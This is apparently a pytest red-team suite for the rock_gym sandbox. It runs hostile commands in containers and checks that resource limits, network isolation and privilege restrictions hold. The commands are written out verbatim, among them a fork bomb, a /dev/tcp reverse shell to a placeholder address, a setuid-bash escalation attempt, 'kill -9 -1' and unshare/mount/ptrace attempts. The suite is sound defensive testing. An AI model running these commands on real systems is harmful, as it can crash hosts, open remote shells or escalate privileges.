"""Red team: hostile commands in real sandboxes, on both engines.

For each attack: it stays inside, a sibling sandbox started beforehand still answers `echo ok` within 2 s while it
runs, the attacked sandbox (or env) keeps working or ends the episode with a clear error, and no container or process
of the sandbox is left behind.
"""

from __future__ import annotations

import re
import secrets
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

import gymnasium as gym
import pytest
from redteam import GVISOR, answers_quickly, held_or_lost, host_processes

import rock_gym  # noqa: F401 - registers the rock/* ids
from rock_gym.envs.record import Ending, Outcome, StepInfo
from rock_gym.sandbox import Sandbox, SandboxConfig
from rock_gym.sandbox.engines import wait_until
from rock_gym.sandbox.session import CommandResult
from rock_gym.tools import ToolCall, get_format

pytestmark = [pytest.mark.container, pytest.mark.usefixtures("no_leak")]


def config(backend: str, **fields: object) -> SandboxConfig:
    return SandboxConfig(backend=backend, timeout=30, **fields)  # type: ignore[arg-type]


def during(sandbox: Sandbox, attack: str, timeout: float, check: Callable[[], object], wait: float = 1.0):
    """Run `attack` in the sandbox; `wait` seconds in, run `check` (on the host); return the attack's result."""
    with ThreadPoolExecutor(1) as pool:
        running = pool.submit(sandbox.run, attack, timeout)
        time.sleep(wait)
        check()
        return running.result()


def still_works(sandbox: Sandbox) -> None:
    assert sandbox.run("echo alive", timeout=20).output == "alive\n"


def bash(command: str) -> str:
    return get_format("hermes").render([ToolCall("bash", {"command": command})])


PIDS = "read -r n < /sys/fs/cgroup/pids/pids.current; read -r m < /sys/fs/cgroup/pids/pids.max; echo PIDS $n $m"


def test_fork_bomb_is_held_by_the_pids_limit(backend, sibling):
    with Sandbox(config(backend, pids_limit=64)) as sb:
        if GVISOR:  # each gVisor process has a host stub in the limited cgroup: the bomb may take the sentry down
            held_or_lost(lambda: sb.run("bomb() { bomb | bomb & }; bomb", timeout=5), sb)
            answers_quickly(sibling)
            return
        sb.run("bomb() { bomb | bomb & }; bomb", timeout=5)  # returns at once; the bomb goes on in the background
        # While it rages, the shell answers (builtins: forks fail at the limit) and the count never passes the limit.
        for _ in range(3):
            answer = sb.run(PIDS, timeout=20).output  # the bomb's complaints share the shell's output
            current, limit = next(line for line in answer.splitlines() if line.startswith("PIDS ")).split()[1:]
            assert limit == "64" and int(current) <= 64
            answers_quickly(sibling)


def test_memory_bomb_is_killed_inside(backend, sibling):
    with Sandbox(config(backend, memory="128m")) as sb:
        hog = 'python3 -c "b = []\nwhile True: b.append(bytearray(16 << 20))"'
        if GVISOR:  # gVisor's kernel refuses the allocation (MemoryError), or the sentry dies at the cgroup's limit
            outcome: list[CommandResult] = []
            if held_or_lost(lambda: outcome.append(during(sb, hog, 20, lambda: answers_quickly(sibling), 0.5)), sb):
                assert outcome[0].exit_code != 0 and not outcome[0].timed_out, outcome
            answers_quickly(sibling)
            return
        result = during(sb, hog, 20, lambda: answers_quickly(sibling), wait=0.5)
        assert result.exit_code == 137 and not result.timed_out  # SIGKILL from the cgroup's OOM killer
        still_works(sb)


def test_disk_fill_is_bounded(backend, sibling):
    with Sandbox(config(backend, disk="200m")) as sb:
        assert sb.guard is not None and sb.guard.upper is not None, "the disk watchdog does not see this sandbox"
        fill = "dd if=/dev/zero of=/fill bs=1M count=2000 2>&1; du -m /fill | cut -f1"
        result = during(sb, fill, 60, lambda: answers_quickly(sibling), wait=0.5)
        assert result.exhausted == "disk" and result.ended_processes >= 1, result
        assert "disk bound of 200 MiB was exceeded" in result.output
        written = int(result.output.split("\n[rock_gym")[0].split()[-1])
        # The watchdog looks every 0.1 s: at this machine's ~1.5 GB/s into the page cache, a few hundred MiB past.
        assert 200 < written < 1000, f"{written} MiB written past a 200m bound"
        sb.run("rm -f /fill")
        again = sb.run("head -c 50M /dev/zero > /again && echo wrote", timeout=30)
        assert again.output == "wrote\n" and again.ended_processes == 0


def test_output_flood_is_capped_and_cut_at_the_timeout(backend, sibling):
    with Sandbox(config(backend, output_limit=10_000)) as sb:
        result = during(sb, "yes 'flood flood flood flood'", 3, lambda: answers_quickly(sibling))
        assert result.timed_out and result.truncated
        assert len(result.output) < 12_000
        still_works(sb)


@pytest.mark.parametrize(
    "attack",
    ["while :; do :; done", "trap '' TERM INT HUP; while :; do sleep 0.1; done", "sh -c \"trap '' TERM; sleep 600\""],
    ids=["busy-loop", "ignores-sigterm", "child-ignores-sigterm"],
)
def test_endless_commands_end_at_their_timeout(backend, sibling, attack):
    with Sandbox(config(backend)) as sb:
        started = time.perf_counter()
        result = during(sb, attack, 2, lambda: answers_quickly(sibling))
        assert result.timed_out and time.perf_counter() - started < 12
        left = sb.run("ps -eo pid=,args= | grep -v -e 'ps -eo' -e grep -e 'bash --noprofile' -e 'while read' -e init")
        assert "sleep" not in left.output and "sh -c" not in left.output, left.output
        still_works(sb)


def test_background_processes_do_not_survive_reset_or_close(backend, sibling):
    marker = f"rockgym-survivor-{secrets.token_hex(4)}"
    survivors = (
        f"nohup bash -c 'exec -a {marker}-nohup sleep 600' >/dev/null 2>&1 &",
        f"setsid bash -c \"trap '' TERM HUP; exec -a {marker}-setsid sleep 600\" >/dev/null 2>&1 < /dev/null &",
        f"( ( exec -a {marker}-double sleep 600 & ) & ) ; disown -a",
    )
    env = gym.make("rock/Terminal-v0", backend=backend)
    try:
        for ending in ("reset", "close"):
            env.reset(seed=0)
            *_, info = env.step(get_format("hermes").render([ToolCall("bash", {"command": c}) for c in survivors]))
            results = StepInfo.from_info(info).tool_results
            assert all(r.exit_code == 0 for r in results), results
            sandbox = env.unwrapped.episode.sandbox
            if GVISOR:  # they live in gVisor's kernel: seen from inside; on the host, the sandbox's runsc processes
                count = f"ps -eo args= | grep -c '^{marker}'"
                three = wait_until(lambda sb=sandbox, c=count: sb.run(c).output.strip() == "3", 5)
                assert three, sandbox.run("ps -eo args=")
            seen = sandbox.container_id if GVISOR else marker
            # The check can see them: sandbox processes are host processes in another PID namespace.
            assert wait_until(lambda s=seen: len(host_processes(s)) >= (1 if GVISOR else 3), 5), host_processes(seen)
            answers_quickly(sibling)
            env.reset(seed=0) if ending == "reset" else env.close()
            assert wait_until(lambda s=seen: not host_processes(s), 10), f"after {ending}: {host_processes(seen)}"
    finally:
        env.close()


@pytest.mark.parametrize("address", ["10.1.2.3", "172.17.0.1", "10.88.0.1", "8.8.8.8"])
def test_egress_has_no_route(backend, sibling, address):
    """Outside addresses and the host's bridge addresses: connect fails at once with ENETUNREACH, nothing sent."""
    probe = (
        'python3 -c "import socket, sys, time, errno\n'
        "t = time.monotonic()\n"
        "s = socket.socket(); s.settimeout(5)\n"
        f"code = s.connect_ex(('{address}', 443))\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try: u.sendto(b'x', ('" + address + "', 53)); sent = 'sent'\n"
        "except OSError as e: sent = errno.errorcode[e.errno]\n"
        'print(errno.errorcode.get(code, code), sent, round(time.monotonic() - t, 3))"'
    )
    with Sandbox(config(backend)) as sb:
        before = sb.run("cat /proc/net/dev").output
        tcp, udp, seconds = sb.run(probe).output.split()
        refused = "EHOSTUNREACH" if GVISOR else "ENETUNREACH"  # gVisor's netstack has no route either, says it so
        assert (tcp, udp) == (refused, refused) and float(seconds) < 0.5
        links = [line.split(":")[0].strip() for line in before.splitlines()[2:]]
        assert links == ["lo"], f"an interface to send on exists: {links}"
        answers_quickly(sibling)


def test_reverse_shell_fails_at_once(backend, sibling):
    with Sandbox(config(backend)) as sb:
        started = time.perf_counter()
        result = sb.run("bash -i >& /dev/tcp/10.1.2.3/4444 0>&1", timeout=10)
        assert result.exit_code != 0 and not result.timed_out and time.perf_counter() - started < 2
        refused = "no route to host" if GVISOR else "network is unreachable"
        assert refused in result.output.lower()
        tunnel = sb.run("exec 3<>/dev/tcp/203.0.113.7/22 && echo connected", timeout=10)
        assert "connected" not in tunnel.output and refused in tunnel.output.lower()
        answers_quickly(sibling)
        still_works(sb)


#: Mount points a container has of its own: kernel file systems, the engine's per-container files, its init binary.
OWN_MOUNTS = re.compile(
    r"^(/|/(proc|sys|dev)(/.*)?|/etc/(hosts|hostname|resolv\.conf)|/run/(\.containerenv|podman-init)|/usr/sbin/docker-init)$"
)


def test_no_engine_socket_no_host_paths_own_pid_namespace(backend, sibling):
    with Sandbox(config(backend)) as sb:
        sockets = sb.run("ls -d /var/run/docker.sock /run/docker.sock /run/podman /run/containerd 2>/dev/null | wc -l")
        assert sockets.output.strip() == "0"
        init = sb.run("tr '\\0' ' ' < /proc/1/cmdline").output
        assert init.split()[0] in ("/sbin/docker-init", "/run/podman-init") and "while read" in init
        pids = sb.run("ls /proc | grep '^[0-9]' | wc -l").output
        assert int(pids) < 12, "only the sandbox's own processes are visible"
        targets = sb.run("awk '{print $5}' /proc/self/mountinfo").output.split()
        foreign = [t for t in targets if not OWN_MOUNTS.match(t) and not (GVISOR and t == "/tmp")]  # gVisor's tmpfs
        assert not foreign, f"host paths mounted into the sandbox: {foreign}"
        assert sb.run("hostname").output.strip() != __import__("socket").gethostname()
        answers_quickly(sibling)


PRIVILEGE_ATTEMPTS = {
    # A setuid-root copy of bash, run by uid 1000: no_new_privs (prctl 39 reads it) keeps it uid 1000.
    "setuid": (
        'cp /bin/bash /tmp/rootbash && chmod u+s /tmp/rootbash && python3 -c "import os; os.setgid(1000); '
        "os.setuid(1000); os.execv('/tmp/rootbash', ['b', '-p', '-c', 'id -u; python3 -c \\\"import ctypes; "
        'print(ctypes.CDLL(None).prctl(39, 0, 0, 0, 0))\\"\'])"',
        lambda r: r.output.split()[:2] == ["1000", "1"],
    ),
    "mount": ("mount -t tmpfs none /mnt", lambda r: r.exit_code != 0),
    "bind-mount": ("mount --bind / /mnt", lambda r: r.exit_code != 0),
    "unshare-user": ("unshare -U -r id", lambda r: r.exit_code != 0),
    "unshare-mount": ("unshare -m true", lambda r: r.exit_code != 0),
    # CAP_SYS_PTRACE is dropped; ptrace reaches only the sandbox's own processes (no host pid is visible).
    "ptrace": (
        'grep CapEff /proc/self/status | python3 -c "import sys; print(int(sys.stdin.read().split()[1], 16) >> 19 & 1)'
        '"; python3 -c "import ctypes; l = ctypes.CDLL(None, use_errno=True); '
        'print(l.ptrace(16, 999999, 0, 0), ctypes.get_errno())"',
        lambda r: r.output.split() == ["0", "-1", "3"],  # capability bit off; ESRCH: no such process in here
    ),
    "module-syscall": (
        'python3 -c "import ctypes, os; l = ctypes.CDLL(None, use_errno=True); '
        "print(l.syscall(313, os.open('/dev/null', 0), b'', 0), ctypes.get_errno())\"",
        lambda r: r.output.split() == ["-1", "1"],  # finit_module: EPERM
    ),
    "modprobe": ("modprobe dummy || insmod /tmp/x.ko", lambda r: r.exit_code != 0),
    "proc-modules": ("echo x > /proc/modules", lambda r: r.exit_code != 0),
    "sys-readonly": ("touch /sys/kernel/x; echo 1 > /sys/kernel/mm/ksm/run", lambda r: r.exit_code != 0),
    # No CAP_MKNOD; under gVisor the node is made in gVisor's file system and opens no device.
    "mknod": ("mknod /tmp/vda b 254 0 && head -c 1 /tmp/vda", lambda r: r.exit_code != 0),
    "raw-socket": (
        'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)"',
        lambda r: r.exit_code != 0 and "not permitted" in r.output,
    ),
}


@pytest.mark.parametrize("attempt", sorted(PRIVILEGE_ATTEMPTS))
def test_privilege_attempts_fail(sandbox, attempt):
    if GVISOR and attempt == "unshare-user":
        pytest.skip("gVisor implements user namespaces in its own kernel: a nested one reaches nothing of the host's")
    command, held = PRIVILEGE_ATTEMPTS[attempt]
    result: CommandResult = sandbox.run(command, timeout=20)
    assert held(result), result
    still_works(sandbox)


def cpu_seconds(sandbox: Sandbox) -> tuple[float, float]:
    """(cgroup CPU seconds, wall seconds) read together inside the sandbox."""
    out = sandbox.run(
        "read -r u < /sys/fs/cgroup/cpuacct/cpuacct.usage 2>/dev/null || u=$(awk '/usage_usec/ {print $2 * 1000}' "
        "/sys/fs/cgroup/cpu.stat); echo $u $EPOCHREALTIME",
        timeout=20,
    ).output.split()
    return int(out[0]) / 1e9, float(out[1])


def test_cpu_burn_stays_within_the_cpu_limit(backend, sibling):
    with Sandbox(config(backend, cpus=1)) as sb:
        sb.run("for i in 1 2; do (while :; do :; done) & done")
        time.sleep(1)
        used0, wall0 = cpu_seconds(sb)
        time.sleep(3)
        answers_quickly(sibling)
        used1, wall1 = cpu_seconds(sb)
        cores = (used1 - used0) / (wall1 - wall0)
        # Above 0.1: the burn ran (on a loaded 2-core host it may get well under its core); below 1.15: the limit held.
        assert 0.1 < cores < 1.15, f"the burn used {cores:.2f} cores with cpus=1"


@pytest.mark.timeout(240)
def test_env_keeps_working_or_ends_clearly_after_hostile_turns(backend, sibling):
    """Each hostile turn leaves the env working, or ends the episode with a clear error; reset then works."""
    # A fork bomb outlives its call; a shell restarted beside it may not start: startup_timeout bounds that wait.
    limits = {"pids_limit": 64, "memory": "256m", "startup_timeout": 20}
    env = gym.make("rock/Terminal-v0", backend=backend, call_timeout=3, sandbox=limits)
    memory, bomb = "python3 -c 'b = bytearray(1 << 30)'", "bomb() { bomb | bomb & }; bomb"
    attacks = (memory, "yes", "kill -9 -1", "true", bomb)
    endings = []
    try:
        env.reset(seed=0)
        for number, attack in enumerate(attacks):
            obs, reward, terminated, truncated, info = env.step(bash(attack))
            answers_quickly(sibling)
            if truncated:  # the episode may end, and then says why: the agent's own doing, scored as a failure
                step = StepInfo.from_info(info)
                assert "sandbox was lost" in step.error and "sandbox was lost" in obs
                assert step.ending == Ending.SANDBOX_LOST and step.outcome == Outcome.FAILURE
                endings.append(number)
                env.reset(seed=0)
        obs, *_ = env.step(bash("echo still here"))
        assert "still here" in obs
    finally:
        env.close()
    # A memory hog and a flood never cost the sandbox; `kill -9 -1` kills the container's keeper (the episode ends at
    # it or the next call), and a fork bomb outlives its call (the sandbox may be lost at it or the next call).
    # Under gVisor the hog may take the sentry down with it (the cgroup's limit holds gVisor's whole kernel).
    assert not ({1} if GVISOR else {0, 1}) & set(endings), [attacks[n] for n in endings]
